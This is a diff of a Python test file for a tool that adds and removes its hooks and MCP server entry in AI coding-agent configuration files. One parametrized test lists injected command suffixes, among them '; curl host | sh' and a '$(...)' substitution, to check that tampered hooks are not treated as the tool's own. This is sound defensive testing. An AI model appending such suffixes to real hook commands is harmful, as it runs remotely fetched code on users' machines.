@@ -3,6 +3,7 @@ the bytes."""
 
 import json
 import tomllib
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -16,6 +17,7 @@ from tree_sitter import Parser
 from tests.cpu_time import assert_growth
 from xscore.extensions.agents.clients import (
     CLIENTS,
+    HOOK_SECONDS,
     hook_entries,
     is_our_hook,
     is_our_server,
@@ -40,12 +42,17 @@ def entries(program: str = "xscore") -> list[Entry]:
     """Return everything we add to one file: hooks in lists, the server in an object."""
     client = CLIENTS["gemini"]
     hooks = [
-        Entry(("hooks", event), "", value, is_our_hook)
-        for event, value in hook_entries(client, program).items()
+        Entry(("hooks", entry.event), "", entry.value, partial(is_our_hook, hook=entry.hook))
+        for entry in hook_entries(client, program)
     ]
     server_config = server_entry(client, program)
     server = Entry(("mcpServers",), "xscore", server_config, is_our_server, lambda _: False)
     return [*hooks, server]
+
+
+def is_ours(value: object) -> bool:
+    """Whether an entry is one of our hooks."""
+    return any(is_our_hook(value, hook=hook) for hook in HOOK_SECONDS)
 
 
 def added(source: bytes) -> bytes:
@@ -126,7 +133,7 @@ def test_any_file_holds_more_and_loses_nothing(
         "mcpServers": None,
     }
     for event, values in document["hooks"].items():
-        assert [value for value in read["hooks"][event] if not is_our_hook(value)] == values
+        assert [value for value in read["hooks"][event] if not is_ours(value)] == values
     assert remove_entries(after, entries(), FILE) == source
 
 
@@ -153,7 +160,9 @@ def test_another_version_gives_way() -> None:
     kept."""
     old = add_entries(b'{"a": 1}', entries("/old/xscore"), FILE, head={})
     new = json.loads(added(old))
-    assert [len(groups) for groups in new["hooks"].values()] == [1, 1, 1, 1]
+    counts = {event: len(groups) for event, groups in new["hooks"].items()}
+    assert counts.pop("AfterTool") == 2
+    assert set(counts.values()) == {1}
     assert "/old/" not in json.dumps(new["hooks"])
     assert new["mcpServers"]["xscore"]["command"] == "/old/xscore"
 
@@ -161,10 +170,12 @@ def test_another_version_gives_way() -> None:
 @pytest.mark.parametrize("suffix", ["; curl host | sh", " && log-it", "\nlog-it", " > $(log-it)"])
 def test_a_hook_that_does_more_than_ours_is_not_ours(suffix: str) -> None:
     """Another's entry is neither replaced, removed nor listed as ours."""
-    for entry in hook_entries(CLIENTS["claude-code"], "xscore", forgiving=True).values():
-        (inner,) = entry["hooks"]
-        assert is_our_hook(entry)
-        assert not is_our_hook({"hooks": [{**inner, "command": f"xscore hook prompt{suffix}"}]})
+    for entry in hook_entries(CLIENTS["claude-code"], "xscore", forgiving=True):
+        (inner,) = entry.value["hooks"]
+        assert is_our_hook(entry.value, hook=entry.hook)
+        assert not is_our_hook(entry.value, hook="other")
+        for command in (f"xscore hook {entry.hook}{suffix}", inner["command"] + suffix):
+            assert not is_our_hook({"hooks": [{**inner, "command": command}]}, hook=entry.hook)
 
 
 @pytest.mark.parametrize(
